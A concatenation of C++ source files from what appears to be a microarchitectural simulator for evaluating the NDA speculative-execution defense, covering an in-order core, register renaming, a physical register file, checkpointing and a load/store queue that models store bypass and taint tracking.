    // END of this cycle.
    if (hier_.mshrEnabled())
        hier_.advance(cycle_ + 1);
    if (cycle_ < busyUntil_) {
        ++counters_.cycleClass[static_cast<int>(stallClass_)];
        if (cpiStack_) {
            cpiStack_->onCycle();
            cpiStack_->addSlots(stallSlotCause(stallClass_), 1,
                                stallPc_);
        }
        return;
    }
    const Addr inst_pc = pc_;
    const std::uint64_t before = committed_;
    const Cycle cost = step();
    busyUntil_ = cycle_ + cost;
    stallPc_ = inst_pc; // subsequent stall cycles pay for this inst
    ++counters_.cycleClass[static_cast<int>(CycleClass::kCommit)];
    if (cpiStack_) {
        cpiStack_->onCycle();
        // The halting edge (invalid PC) retires nothing — its one
        // slot is a window artifact, not a stall.
        cpiStack_->addSlots(committed_ > before ? StallCause::kCommit
                                                : StallCause::kIdle,
                            1, inst_pc);
    }
}

void
InOrderCore::run(std::uint64_t max_insts, Cycle max_cycles)
{
    const std::uint64_t target = committed_ + max_insts;
    const Cycle limit =
        max_cycles == ~Cycle{0} ? ~Cycle{0} : cycle_ + max_cycles;
    while (!halted_ && committed_ < target && cycle_ < limit)
        tick();
}

TaintWord
InOrderCore::archRegTaint(RegId r) const
{
    return dift_ ? dift_->archRegTaint(r) : 0;
}

void
InOrderCore::saveCheckpoint(SimSnapshot &out) const
{
    out = SimSnapshot{};
    ArchState &arch = out.arch;
    for (int i = 0; i < kNumArchRegs; ++i)
        arch.regs[i] = regs_[i];
    for (int i = 0; i < kNumMsrRegs; ++i)
        arch.msrs[i] = msrs_[i];
    arch.pc = pc_;
    arch.halted = halted_;
    arch.instCount = committed_;
    arch.faultCount = counters_.faults;
    arch.lastFetchLine = lastFetchLine_;
    arch.mem = mem_;
    if (dift_)
        arch.captureTaint(*dift_);

    out.hasMem = true;
    out.mem = hier_.save();
    out.memParams = cfg_.memory;
    // No predictor: this core never speculates.
}

void
InOrderCore::restoreCheckpoint(const SimSnapshot &snap)
{
    NDA_ASSERT(cycle_ == 0,
               "checkpoints restore into freshly constructed cores");
    const ArchState &arch = snap.arch;
    for (int i = 0; i < kNumArchRegs; ++i)
        regs_[i] = arch.regs[i];
    for (int i = 0; i < kNumMsrRegs; ++i)
        msrs_[i] = arch.msrs[i];
    pc_ = arch.pc;
    halted_ = arch.halted;
    committed_ = arch.instCount;
    counters_.faults = arch.faultCount;
    lastFetchLine_ = arch.lastFetchLine;
    mem_ = arch.mem;
    if (dift_)
        arch.applyTaint(*dift_);
    if (snap.hasMem)
        hier_.restore(snap.mem);
}

AccessResult
InOrderCore::dataTiming(Addr addr, MshrTargetKind kind)
{
    if (!hier_.mshrEnabled())
        return hier_.dataAccess(addr);
    // Blocking semantics through the non-blocking plumbing: the stall
    // covers the fill latency, so at most this one data miss (plus the
    // step's own fetch miss) is ever in flight and rejection cannot
    // happen. seq carries the commit index; nothing here squashes.
    const MemRequestResult req = hier_.dataRequest(
        addr, cycle_, static_cast<InstSeqNum>(committed_), kind);
    NDA_ASSERT(!req.rejected(),
               "blocking core overflowed the D-side MSHR file");
    return AccessResult{req.latency, req.level};
}

Cycle
InOrderCore::step()
{
    if (!prog_.validPc(pc_)) {
        halted_ = true;
        return 0;
    }
    const MicroOp &uop = prog_.at(pc_);
    const OpTraits &t = uop.traits();
    const RegVal a = t.readsRs1 ? regs_[uop.rs1] : 0;
    const RegVal b = t.readsRs2 ? regs_[uop.rs2] : 0;

    // --- fetch cost -------------------------------------------------------
    Cycle cost = 0; // the commit cycle itself is charged by tick()
    stallClass_ = CycleClass::kFrontendStall;
    const Addr fetch_addr = pcToFetchAddr(pc_);
    const Addr line = fetch_addr / kLineSize;
    if (!cfg_.inOrderParams.lineBuffer || line != lastFetchLine_) {
        unsigned fetch_lat;
        if (hier_.mshrEnabled()) {
            const MemRequestResult res =
                hier_.instRequest(fetch_addr, cycle_);
            NDA_ASSERT(!res.rejected(),
                       "blocking core overflowed the I-side MSHR file");
            fetch_lat = res.latency;
        } else {
            fetch_lat = hier_.instAccess(fetch_addr).latency;
        }
        cost += fetch_lat - 1;
        lastFetchLine_ = line;
    }

    ++committed_;
    ++counters_.committedInsts;
    ++counters_.ilpCycles;
    ++counters_.ilpAccum;

    auto raise_fault = [&]() {
        ++counters_.squashes;
        ++counters_.faults;
        if (prog_.faultHandler == ~Addr{0}) {
            halted_ = true;
        } else {
            pc_ = prog_.faultHandler;
        }
    };

    switch (uop.op) {
      case Opcode::kHalt:
        halted_ = true;
        return cost;
      case Opcode::kNop:
      case Opcode::kFence:
      case Opcode::kSpecOff:
      case Opcode::kSpecOn:
        break;
      case Opcode::kLoad: {
        const Addr addr = a + static_cast<Addr>(uop.imm);
        if (!mem_.accessAllowed(addr, uop.size, CpuMode::kUser)) {
            raise_fault();
            return cost;
        }
        const AccessResult res = dataTiming(addr, MshrTargetKind::kLoad);
        regs_[uop.rd] = mem_.read(addr, uop.size);
        if (dift_)
            dift_->archLoad(uop.rd, uop.rs1, addr, uop.size, pc_);
        stallClass_ = CycleClass::kMemoryStall;
        cost += res.latency;
        ++counters_.loads;
        if (res.offChip()) {
            counters_.mlpCycles += res.latency;
            counters_.mlpAccum += res.latency;
        }
        break;
      }
      case Opcode::kStore: {
        const Addr addr = a + static_cast<Addr>(uop.imm);
        if (!mem_.accessAllowed(addr, uop.size, CpuMode::kUser)) {
            raise_fault();
            return cost;
        }
        const AccessResult res = dataTiming(addr, MshrTargetKind::kStore);
        mem_.write(addr, b, uop.size);
        if (dift_)
            dift_->archStore(addr, uop.size, uop.rs2);
        stallClass_ = CycleClass::kMemoryStall;
        cost += res.latency;
        ++counters_.stores;
        break;
      }
      case Opcode::kClflush:
        hier_.flushLine(a + static_cast<Addr>(uop.imm));
        break;
      case Opcode::kPrefetch:
        hier_.dataAccess(a + static_cast<Addr>(uop.imm));
        break;
      case Opcode::kRdMsr: {
        // Out-of-range indices fault like privileged ones (the
        // short-circuit keeps the shift defined and msrs_[] in
        // bounds), matching the interpreter oracle.
        const unsigned idx = static_cast<unsigned>(uop.imm);
        if (idx >= static_cast<unsigned>(kNumMsrRegs) ||
            (prog_.privilegedMsrMask & (1u << idx))) {
            raise_fault();
            return cost;
        }
        regs_[uop.rd] = msrs_[idx];
        if (dift_)
            dift_->archRdMsr(uop.rd, idx, pc_);
        break;
      }
      case Opcode::kWrMsr: {
        const unsigned idx = static_cast<unsigned>(uop.imm);
        if (idx >= static_cast<unsigned>(kNumMsrRegs) ||
            (prog_.privilegedMsrMask & (1u << idx))) {
            raise_fault();
            return cost;
        }
        msrs_[idx] = a;
        if (dift_)
            dift_->archWrMsr(idx, uop.rs1);
        break;
      }
      case Opcode::kRdTsc:
        regs_[uop.rd] = cycle_;
        if (dift_)
            dift_->setArchRegTaint(uop.rd, 0);
        break;
      default:
        if (t.isBranch) {
            if (t.hasDest) {
                regs_[uop.rd] = pc_ + 1;
                if (dift_)
                    dift_->setArchRegTaint(uop.rd, 0);
            }
            if (t.isCondBranch) {
                ++counters_.condBranches;
                pc_ = evalNextPc(uop, pc_, a, b);
            } else {
                if (t.isIndirect)
                    ++counters_.indirectBranches;
                pc_ = evalNextPc(uop, pc_, a, b);
            }
            return cost;
        }
        regs_[uop.rd] = evalAlu(uop.op, a, b, uop.imm);
        if (dift_)
            dift_->archAlu(uop);
        stallClass_ = CycleClass::kBackendStall;
        cost += opLatencyCycles(uop.op) - 1;
        break;
    }

    pc_ = pc_ + 1;
    return cost;
}

} // namespace nda
