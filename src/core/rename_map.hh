/**
 * @file
 * Architectural-to-physical register rename map. Squash recovery is
 * done by walking squashed ROB entries youngest-first and restoring
 * each entry's previous mapping (R10000-style, paper §5 baseline).
 */

#ifndef NDASIM_CORE_RENAME_MAP_HH
#define NDASIM_CORE_RENAME_MAP_HH

#include <array>

#include "common/types.hh"

namespace nda {

/** Speculative rename table for the architectural integer registers. */
class RenameMap
{
  public:
    RenameMap() { reset(); }

    /** Identity-map arch reg i -> phys reg base + i. A non-zero base
     *  is an SMT thread's slice of the physical register file. */
    void
    reset(PhysRegId base = 0)
    {
        for (unsigned i = 0; i < kNumArchRegs; ++i)
            map_[i] = static_cast<PhysRegId>(base + i);
    }

    PhysRegId lookup(RegId arch) const { return map_[arch]; }

    /**
     * Point `arch` at `phys`.
     * @return the previous mapping (recorded as prevDest for recovery).
     */
    PhysRegId
    rename(RegId arch, PhysRegId phys)
    {
        const PhysRegId prev = map_[arch];
        map_[arch] = phys;
        return prev;
    }

    /** Undo a rename during squash recovery. */
    void restore(RegId arch, PhysRegId prev) { map_[arch] = prev; }

  private:
    std::array<PhysRegId, kNumArchRegs> map_{};
};

} // namespace nda

#endif // NDASIM_CORE_RENAME_MAP_HH
