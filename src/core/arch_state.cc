#include "core/arch_state.hh"

#include "dift/taint_engine.hh"
#include "isa/interpreter.hh"
#include "isa/program.hh"

namespace nda {

void
ArchState::reset(const Program &prog)
{
    *this = ArchState{};
    loadDataSegments(prog, mem);
    for (int i = 0; i < kNumArchRegs; ++i)
        regs[i] = prog.initialRegs[i];
    for (int i = 0; i < kNumMsrRegs; ++i)
        msrs[i] = prog.initialMsrs[i];
    pc = prog.entry;
}

void
ArchState::captureTaint(const TaintEngine &dift)
{
    hasTaint = true;
    for (int r = 0; r < kNumArchRegs; ++r)
        regTaint[r] = dift.archRegTaint(static_cast<RegId>(r));
    for (int i = 0; i < kNumMsrRegs; ++i)
        msrTaint[i] = dift.msrTaint(static_cast<unsigned>(i));
    memTaint = dift.memTaintMap();
}

void
ArchState::applyTaint(TaintEngine &dift) const
{
    if (!hasTaint)
        return;
    for (int r = 0; r < kNumArchRegs; ++r)
        dift.setArchRegTaint(static_cast<RegId>(r), regTaint[r]);
    for (int i = 0; i < kNumMsrRegs; ++i)
        dift.setMsrTaint(static_cast<unsigned>(i), msrTaint[i]);
    dift.setMemTaintMap(memTaint);
}

} // namespace nda
