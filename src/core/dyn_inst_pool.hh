/**
 * @file
 * Slab allocator + free list for DynInst, with a non-atomic intrusive
 * handle. The OoO core allocates one DynInst per fetched instruction;
 * with std::shared_ptr that meant a heap allocation plus atomic
 * reference-count traffic on every copy between pipeline structures
 * (ROB, issue queue, LSQ, event queue). A core is single-threaded by
 * construction — the harness parallelizes across independent
 * simulation windows, never inside one — so the handle's count can be
 * a plain integer, and recycling through a per-core free list makes
 * allocation a pointer pop.
 *
 * Lifetime contract: the pool must outlive every handle it issued
 * (in OooCore the pool member is declared before all containers that
 * hold handles, so it is destroyed after them).
 */

#ifndef NDASIM_CORE_DYN_INST_POOL_HH
#define NDASIM_CORE_DYN_INST_POOL_HH

#include <cstddef>
#include <memory>
#include <vector>

#include "core/dyn_inst.hh"

namespace nda {

class DynInstPool;

/** Non-atomic intrusive refcounted handle to a pooled DynInst. */
class DynInstPtr
{
  public:
    DynInstPtr() = default;
    DynInstPtr(std::nullptr_t) {}

    DynInstPtr(const DynInstPtr &o) : inst_(o.inst_)
    {
        if (inst_)
            ++inst_->poolRefs_;
    }

    DynInstPtr(DynInstPtr &&o) noexcept : inst_(o.inst_)
    {
        o.inst_ = nullptr;
    }

    DynInstPtr &
    operator=(const DynInstPtr &o)
    {
        if (o.inst_)
            ++o.inst_->poolRefs_;
        release();
        inst_ = o.inst_;
        return *this;
    }

    DynInstPtr &
    operator=(DynInstPtr &&o) noexcept
    {
        if (this != &o) {
            release();
            inst_ = o.inst_;
            o.inst_ = nullptr;
        }
        return *this;
    }

    ~DynInstPtr() { release(); }

    DynInst *operator->() const { return inst_; }
    DynInst &operator*() const { return *inst_; }
    DynInst *get() const { return inst_; }
    explicit operator bool() const { return inst_ != nullptr; }

    friend bool
    operator==(const DynInstPtr &a, const DynInstPtr &b)
    {
        return a.inst_ == b.inst_;
    }

    friend bool
    operator!=(const DynInstPtr &a, const DynInstPtr &b)
    {
        return a.inst_ != b.inst_;
    }

    friend bool
    operator==(const DynInstPtr &a, std::nullptr_t)
    {
        return a.inst_ == nullptr;
    }

    friend bool
    operator!=(const DynInstPtr &a, std::nullptr_t)
    {
        return a.inst_ != nullptr;
    }

  private:
    friend class DynInstPool;

    /** Adopt a freshly allocated instruction (refcount preset to 1). */
    explicit DynInstPtr(DynInst *inst) : inst_(inst) {}

    inline void release();

    DynInst *inst_ = nullptr;
};

/** Per-core slab/free-list pool of DynInst. */
class DynInstPool
{
  public:
    DynInstPool() = default;

    DynInstPool(const DynInstPool &) = delete;
    DynInstPool &operator=(const DynInstPool &) = delete;

    /** Allocate a default-initialized instruction (refcount 1). */
    DynInstPtr
    create()
    {
        if (!freeList_)
            grow();
        DynInst *inst = freeList_;
        freeList_ = inst->poolNext_;
        inst->reset();
        inst->poolRefs_ = 1;
        inst->pool_ = this;
        return DynInstPtr(inst);
    }

    /** Slots currently on the free list (for tests/introspection). */
    std::size_t freeCount() const;

    /** Total slots ever allocated across all slabs. */
    std::size_t capacity() const { return slabs_.size() * kSlabSize; }

  private:
    friend class DynInstPtr;

    static constexpr std::size_t kSlabSize = 256;

    void grow();

    void
    recycle(DynInst *inst)
    {
        inst->poolNext_ = freeList_;
        freeList_ = inst;
    }

    std::vector<std::unique_ptr<DynInst[]>> slabs_;
    DynInst *freeList_ = nullptr;
};

inline void
DynInstPtr::release()
{
    if (inst_ && --inst_->poolRefs_ == 0)
        inst_->pool_->recycle(inst_);
    inst_ = nullptr;
}

} // namespace nda

#endif // NDASIM_CORE_DYN_INST_POOL_HH
