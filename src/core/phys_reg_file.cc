#include "core/phys_reg_file.hh"

#include "common/log.hh"
#include "obs/stats_registry.hh"

namespace nda {

PhysRegFile::PhysRegFile(unsigned num_regs)
    : values_(num_regs, 0), ready_(num_regs, false)
{
    freeList_.reserve(num_regs);
}

PhysRegId
PhysRegFile::alloc()
{
    NDA_ASSERT(!freeList_.empty(), "physical register file exhausted");
    ++allocs_;
    const PhysRegId r = freeList_.back();
    freeList_.pop_back();
    ready_[r] = false;
    return r;
}

void
PhysRegFile::free(PhysRegId r)
{
    NDA_ASSERT(r < values_.size(), "freeing bogus phys reg %u", r);
    ++frees_;
    freeList_.push_back(r);
}

void
PhysRegFile::reset(unsigned reserved)
{
    freeList_.clear();
    for (unsigned r = 0; r < values_.size(); ++r) {
        values_[r] = 0;
        ready_[r] = r < reserved;
    }
    // Push high registers first so low ids allocate first (stable tests).
    for (unsigned r = static_cast<unsigned>(values_.size()); r > reserved;
         --r) {
        freeList_.push_back(static_cast<PhysRegId>(r - 1));
    }
}

void
PhysRegFile::registerStats(StatsRegistry &reg,
                           const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);
    g.counter("allocs", &allocs_, "rename allocations");
    g.counter("frees", &frees_, "registers returned (commit + squash)");
    g.formula("free_now",
              [this] { return static_cast<double>(freeList_.size()); },
              "free-list depth at dump time");
}

} // namespace nda
