#include "core/phys_reg_file.hh"

#include "common/log.hh"
#include "obs/stats_registry.hh"

namespace nda {

PhysRegFile::PhysRegFile(unsigned num_regs)
    : values_(num_regs, 0), ready_(num_regs, false),
      freeLists_(1), owner_(num_regs, 0)
{
    freeLists_[0].reserve(num_regs);
}

PhysRegId
PhysRegFile::alloc(unsigned tid)
{
    auto &fl = freeLists_[tid];
    NDA_ASSERT(!fl.empty(), "physical register file exhausted (t%u)",
               tid);
    ++allocs_;
    const PhysRegId r = fl.back();
    fl.pop_back();
    ready_[r] = false;
    return r;
}

void
PhysRegFile::free(PhysRegId r)
{
    NDA_ASSERT(r < values_.size(), "freeing bogus phys reg %u", r);
    ++frees_;
    freeLists_[owner_[r]].push_back(r);
}

void
PhysRegFile::reset(unsigned reserved_per_thread, unsigned nthreads)
{
    const unsigned total = static_cast<unsigned>(values_.size());
    const unsigned reserved = reserved_per_thread * nthreads;
    NDA_ASSERT(reserved <= total, "more reserved regs than exist");
    freeLists_.assign(nthreads, {});
    for (unsigned r = 0; r < total; ++r) {
        values_[r] = 0;
        ready_[r] = r < reserved;
    }
    // Static ownership: thread t owns its identity-mapped arch range
    // plus one contiguous chunk of the rename pool (the last thread
    // absorbs the remainder). With one thread this is the whole file.
    const unsigned pool = total - reserved;
    const unsigned chunk = pool / nthreads;
    for (unsigned r = 0; r < reserved; ++r)
        owner_[r] = r / reserved_per_thread;
    for (unsigned r = reserved; r < total; ++r) {
        const unsigned t = chunk ? (r - reserved) / chunk : 0;
        owner_[r] = t >= nthreads ? nthreads - 1 : t;
    }
    // Push high registers first so low ids allocate first within each
    // partition (stable tests; identical to the pre-SMT order when
    // nthreads == 1).
    for (unsigned r = total; r > reserved; --r) {
        const PhysRegId id = static_cast<PhysRegId>(r - 1);
        freeLists_[owner_[id]].push_back(id);
    }
}

void
PhysRegFile::registerStats(StatsRegistry &reg,
                           const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);
    g.counter("allocs", &allocs_, "rename allocations");
    g.counter("frees", &frees_, "registers returned (commit + squash)");
    g.formula("free_now",
              [this] { return static_cast<double>(numFree()); },
              "free-list depth at dump time");
}

} // namespace nda
