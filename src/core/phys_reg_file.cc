#include "core/phys_reg_file.hh"

#include "common/log.hh"

namespace nda {

PhysRegFile::PhysRegFile(unsigned num_regs)
    : values_(num_regs, 0), ready_(num_regs, false)
{
    freeList_.reserve(num_regs);
}

PhysRegId
PhysRegFile::alloc()
{
    NDA_ASSERT(!freeList_.empty(), "physical register file exhausted");
    const PhysRegId r = freeList_.back();
    freeList_.pop_back();
    ready_[r] = false;
    return r;
}

void
PhysRegFile::free(PhysRegId r)
{
    NDA_ASSERT(r < values_.size(), "freeing bogus phys reg %u", r);
    freeList_.push_back(r);
}

void
PhysRegFile::reset(unsigned reserved)
{
    freeList_.clear();
    for (unsigned r = 0; r < values_.size(); ++r) {
        values_[r] = 0;
        ready_[r] = r < reserved;
    }
    // Push high registers first so low ids allocate first (stable tests).
    for (unsigned r = static_cast<unsigned>(values_.size()); r > reserved;
         --r) {
        freeList_.push_back(static_cast<PhysRegId>(r - 1));
    }
}

} // namespace nda
