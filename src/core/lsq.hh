/**
 * @file
 * Load/Store Queue: store-to-load forwarding, speculative store
 * bypass (the SSB attack substrate), memory-order-violation
 * detection, and the bookkeeping NDA's Bypass Restriction needs
 * (paper §4.1, §5.2).
 *
 * Under SMT the capacity (LQ/SQ entry counts) is shared between the
 * hardware threads, but the queues themselves are per-thread:
 * store-to-load forwarding, bypass tracking, and memory-order
 * violation detection are all same-thread properties (cross-thread
 * communication goes through committed memory). A per-thread squash
 * flash-clears only that thread's entries.
 */

#ifndef NDASIM_CORE_LSQ_HH
#define NDASIM_CORE_LSQ_HH

#include <deque>
#include <optional>
#include <string>
#include <vector>

#include "core/dyn_inst_pool.hh"
#include "core/phys_reg_file.hh"

namespace nda {

class StatsRegistry;

/** Result of checking a load against the store queue. */
struct StoreSearchResult {
    /** Full-overlap resolved store found: forward this value. */
    bool forward = false;
    RegVal value = 0;
    /** The store that forwarded (for the DIFT oracle's data taint). */
    const DynInst *forwardStore = nullptr;
    /** Partial overlap with a resolved store: load must retry later. */
    bool mustStall = false;
    /** Seq numbers of older stores whose address is still unknown. */
    std::vector<InstSeqNum> bypassedStores;
};

/** Combined load queue + store queue (shared across SMT threads). */
class Lsq
{
  public:
    Lsq(unsigned lq_entries, unsigned sq_entries, unsigned nthreads = 1);

    bool lqFull() const { return nLoads_ >= lqEntries_; }
    bool sqFull() const { return nStores_ >= sqEntries_; }
    std::size_t lqSize() const { return nLoads_; }
    std::size_t sqSize() const { return nStores_; }

    /** Allocate at dispatch (in per-thread program order); the entry
     *  lands in the queue of the instruction's hardware thread. */
    void insertLoad(const DynInstPtr &inst);
    void insertStore(const DynInstPtr &inst);

    /**
     * Search thread `tid`'s older stores for a load at `addr`/`size`.
     * Scans youngest-to-oldest among stores older than `load_seq`.
     * `regs` is consulted for store-data readiness: a covering store
     * whose data has not been broadcast cannot forward (and, under
     * NDA, an unsafe producer's value must not propagate this way).
     */
    StoreSearchResult searchStores(InstSeqNum load_seq, Addr addr,
                                   unsigned size,
                                   const PhysRegFile &regs,
                                   unsigned tid = 0) const;

    /**
     * Called when a store's address resolves: find the oldest younger
     * same-thread load that already executed against an overlapping
     * address while this store was unresolved (a memory-order
     * violation).
     * @return the violating load, if any.
     */
    DynInstPtr checkViolations(const DynInst &store) const;

    /**
     * Bypass Restriction bookkeeping: remove `store_seq` from every
     * thread-`tid` load's bypassed-store set; return loads whose set
     * became empty (candidates to become safe, paper §5.2).
     */
    std::vector<DynInstPtr> retireBypass(InstSeqNum store_seq,
                                         unsigned tid = 0);

    /** Remove the (committed) head load/store of its thread. */
    void commitLoad(const DynInst &inst);
    void commitStore(const DynInst &inst);

    /** Drop thread `tid`'s entries younger than `squash_seq`
     *  (exclusive); other threads' entries are untouched. */
    void squashYoungerThan(InstSeqNum squash_seq, unsigned tid = 0);

    /** Thread `tid`'s age-ordered queues (checker introspection). */
    const std::deque<DynInstPtr> &
    stores(unsigned tid = 0) const
    {
        return stores_[tid];
    }
    const std::deque<DynInstPtr> &
    loads(unsigned tid = 0) const
    {
        return loads_[tid];
    }

    unsigned
    numThreads() const
    {
        return static_cast<unsigned>(loads_.size());
    }

    void clear();

    static bool
    overlaps(Addr a1, unsigned s1, Addr a2, unsigned s2)
    {
        return a1 < a2 + s2 && a2 < a1 + s1;
    }

    /** Store [a2,s2) fully covers load [a1,s1)? */
    static bool
    contains(Addr a1, unsigned s1, Addr a2, unsigned s2)
    {
        return a2 <= a1 && a1 + s1 <= a2 + s2;
    }

    std::uint64_t searches() const { return searches_; }
    std::uint64_t forwards() const { return forwards_; }
    std::uint64_t stallRetries() const { return stallRetries_; }
    void resetStats() { searches_ = 0; forwards_ = 0; stallRetries_ = 0; }

    /** Bind searches/forwards/stall_retries + forward_rate. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;

  private:
    unsigned lqEntries_;
    unsigned sqEntries_;
    std::size_t nLoads_ = 0;   ///< occupancy across all threads
    std::size_t nStores_ = 0;
    std::vector<std::deque<DynInstPtr>> loads_;   ///< per-thread, aged
    std::vector<std::deque<DynInstPtr>> stores_;  ///< per-thread, aged

    // Search statistics; mutable because searchStores is logically
    // const (no queue state changes) but still worth counting.
    mutable std::uint64_t searches_ = 0;
    mutable std::uint64_t forwards_ = 0;
    mutable std::uint64_t stallRetries_ = 0;
};

} // namespace nda

#endif // NDASIM_CORE_LSQ_HH
