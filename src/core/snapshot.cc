#include "core/snapshot.hh"

#include "common/log.hh"
#include "core/core_config.hh"
#include "isa/interpreter.hh"

namespace nda {

namespace {

bool
sameGeometry(const CacheParams &a, const CacheParams &b)
{
    return a.sizeBytes == b.sizeBytes && a.ways == b.ways &&
           a.lineBytes == b.lineBytes;
}

bool
sameGeometry(const PredictorParams &a, const PredictorParams &b)
{
    return a.direction.tableBits == b.direction.tableBits &&
           a.direction.historyBits == b.direction.historyBits &&
           a.btb.entries == b.btb.entries && a.btb.ways == b.btb.ways &&
           a.btb.tagBits == b.btb.tagBits &&
           a.rasEntries == b.rasEntries;
}

} // namespace

bool
SimSnapshot::operator==(const SimSnapshot &other) const
{
    if (!(arch == other.arch))
        return false;
    if (extraThreads != other.extraThreads)
        return false;
    if (hasMem != other.hasMem || hasPredictor != other.hasPredictor)
        return false;
    if (hasMem &&
        !(mem == other.mem &&
          sameGeometry(memParams.l1i, other.memParams.l1i) &&
          sameGeometry(memParams.l1d, other.memParams.l1d) &&
          sameGeometry(memParams.l2, other.memParams.l2))) {
        return false;
    }
    if (hasPredictor && !(predictor == other.predictor &&
                          sameGeometry(bpParams, other.bpParams))) {
        return false;
    }
    return true;
}

bool
SimSnapshot::structurallyCompatible(const SimConfig &cfg) const
{
    if (hasMem && !(sameGeometry(memParams.l1i, cfg.memory.l1i) &&
                    sameGeometry(memParams.l1d, cfg.memory.l1d) &&
                    sameGeometry(memParams.l2, cfg.memory.l2))) {
        return false;
    }
    if (hasPredictor &&
        !sameGeometry(bpParams, cfg.core.predictor)) {
        return false;
    }
    return true;
}

SimSnapshot
buildWarmCheckpoint(const Program &prog,
                    const HierarchyParams &mem_params,
                    const PredictorParams &bp_params,
                    std::uint64_t ff_insts, TaintEngine *dift,
                    WarmingWork *warm_work)
{
    Interpreter interp(prog);
    MemHierarchy hier(mem_params);
    PredictorUnit bp(bp_params);
    interp.attachWarming(&hier, &bp);
    if (dift)
        interp.attachDift(dift);

    const std::uint64_t executed = interp.run(ff_insts);
    if (warm_work)
        *warm_work += interp.warmingWork();
    NDA_ASSERT(!interp.halted(),
               "program halted after %llu of %llu fast-forward "
               "instructions — window placement runs off the end",
               static_cast<unsigned long long>(executed),
               static_cast<unsigned long long>(ff_insts));

    SimSnapshot snap;
    snap.arch = interp.save();
    snap.hasMem = true;
    snap.mem = hier.save();
    snap.memParams = mem_params;
    snap.hasPredictor = true;
    snap.predictor = bp.save();
    snap.bpParams = bp_params;
    return snap;
}

SimSnapshot
extendWarmCheckpoint(const Program &prog, const SimSnapshot &base,
                     std::uint64_t target_insts, TaintEngine *dift,
                     WarmingWork *warm_work)
{
    NDA_ASSERT(base.hasMem && base.hasPredictor,
               "extendWarmCheckpoint needs a warming checkpoint "
               "(hasMem && hasPredictor) to resume from");
    NDA_ASSERT(target_insts >= base.arch.instCount,
               "extension target %llu is before the base checkpoint's "
               "%llu retired instructions",
               static_cast<unsigned long long>(target_insts),
               static_cast<unsigned long long>(base.arch.instCount));

    // Reassemble the fast-forward machine exactly as buildWarmCheckpoint
    // left it: same geometry, same warming state, same architectural
    // state (attachments first, so restore() re-applies captured
    // taint to the DIFT engine).
    Interpreter interp(prog);
    MemHierarchy hier(base.memParams);
    PredictorUnit bp(base.bpParams);
    interp.attachWarming(&hier, &bp);
    if (dift)
        interp.attachDift(dift);
    interp.restore(base.arch);
    hier.restore(base.mem);
    bp.restore(base.predictor);

    const std::uint64_t executed = interp.runTo(target_insts);
    if (warm_work)
        *warm_work += interp.warmingWork();
    NDA_ASSERT(!interp.halted(),
               "program halted after %llu of the %llu-instruction "
               "extension — window placement runs off the end",
               static_cast<unsigned long long>(executed),
               static_cast<unsigned long long>(target_insts -
                                               base.arch.instCount));

    SimSnapshot snap;
    snap.arch = interp.save();
    snap.hasMem = true;
    snap.mem = hier.save();
    snap.memParams = base.memParams;
    snap.hasPredictor = true;
    snap.predictor = bp.save();
    snap.bpParams = base.bpParams;
    return snap;
}

} // namespace nda
