#include "core/lsq.hh"

#include <algorithm>

#include "common/log.hh"
#include "obs/stats_registry.hh"

namespace nda {

Lsq::Lsq(unsigned lq_entries, unsigned sq_entries)
    : lqEntries_(lq_entries), sqEntries_(sq_entries)
{
}

void
Lsq::insertLoad(const DynInstPtr &inst)
{
    NDA_ASSERT(!lqFull(), "load queue overflow");
    loads_.push_back(inst);
}

void
Lsq::insertStore(const DynInstPtr &inst)
{
    NDA_ASSERT(!sqFull(), "store queue overflow");
    stores_.push_back(inst);
}

StoreSearchResult
Lsq::searchStores(InstSeqNum load_seq, Addr addr, unsigned size,
                  const PhysRegFile &regs) const
{
    StoreSearchResult result;
    ++searches_;
    // Youngest-to-oldest among stores older than the load.
    for (auto it = stores_.rbegin(); it != stores_.rend(); ++it) {
        const DynInst &store = **it;
        if (store.squashed || store.seq >= load_seq)
            continue;
        if (!store.effAddrValid) {
            // Speculative store bypass: proceed past the unresolved
            // store, but remember it (violation detection + NDA BR).
            result.bypassedStores.push_back(store.seq);
            continue;
        }
        if (!overlaps(addr, size, store.effAddr, store.uop.size))
            continue;
        if (contains(addr, size, store.effAddr, store.uop.size)) {
            // Forward from the youngest covering store — but only if
            // its data register has been broadcast. An unsafe (NDA)
            // producer's value must not propagate via the store queue
            // either.
            if (store.src2 != kInvalidPhysReg &&
                !regs.ready(store.src2)) {
                result.mustStall = true;
                ++stallRetries_;
                return result;
            }
            const unsigned shift =
                static_cast<unsigned>(addr - store.effAddr) * 8;
            RegVal v = regs.value(store.src2) >> shift;
            if (size < 8)
                v &= (RegVal{1} << (8 * size)) - 1;
            result.forward = true;
            result.value = v;
            result.forwardStore = &store;
            ++forwards_;
            return result;
        }
        // Partial overlap: cannot forward; wait for the store to drain.
        result.mustStall = true;
        ++stallRetries_;
        return result;
    }
    return result;
}

DynInstPtr
Lsq::checkViolations(const DynInst &store) const
{
    NDA_ASSERT(store.effAddrValid, "violation check on unresolved store");
    for (const DynInstPtr &load : loads_) {
        // A load captures its data when it issues (effAddrValid), so
        // even a not-yet-completed load can hold stale data and must
        // be snooped.
        if (load->squashed || load->seq <= store.seq)
            continue;
        if (!load->effAddrValid)
            continue;
        if (!overlaps(load->effAddr, load->uop.size, store.effAddr,
                      store.uop.size)) {
            continue;
        }
        // Did this load execute past this (then-unresolved) store?
        const auto &bypassed = load->bypassedStores;
        if (std::find(bypassed.begin(), bypassed.end(), store.seq) !=
            bypassed.end()) {
            return load; // oldest violating load (loads_ is age-ordered)
        }
    }
    return nullptr;
}

std::vector<DynInstPtr>
Lsq::retireBypass(InstSeqNum store_seq)
{
    std::vector<DynInstPtr> cleared;
    for (const DynInstPtr &load : loads_) {
        if (load->squashed)
            continue;
        auto &bypassed = load->bypassedStores;
        auto it = std::find(bypassed.begin(), bypassed.end(), store_seq);
        if (it == bypassed.end())
            continue;
        bypassed.erase(it);
        if (bypassed.empty())
            cleared.push_back(load);
    }
    return cleared;
}

void
Lsq::commitLoad(const DynInst &inst)
{
    NDA_ASSERT(!loads_.empty() && loads_.front()->seq == inst.seq,
               "commit of non-head load");
    loads_.pop_front();
}

void
Lsq::commitStore(const DynInst &inst)
{
    NDA_ASSERT(!stores_.empty() && stores_.front()->seq == inst.seq,
               "commit of non-head store");
    stores_.pop_front();
}

void
Lsq::squashYoungerThan(InstSeqNum squash_seq)
{
    while (!loads_.empty() && loads_.back()->seq > squash_seq)
        loads_.pop_back();
